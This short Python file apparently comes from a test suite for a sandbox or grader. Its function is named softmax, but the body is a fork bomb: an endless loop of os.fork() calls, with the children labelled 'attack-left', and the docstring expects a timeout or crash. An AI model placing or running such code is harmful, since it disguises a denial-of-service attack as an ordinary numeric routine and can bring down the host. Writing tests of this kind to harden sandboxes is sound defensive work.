"""Every process forks for ever.

Expected: timeout or crashed
"""

import os

from attack_kit import name_process


def softmax(x, axis=-1):
    while True:
        try:
            if os.fork() == 0:
                name_process("attack-left")
        except OSError:
            pass
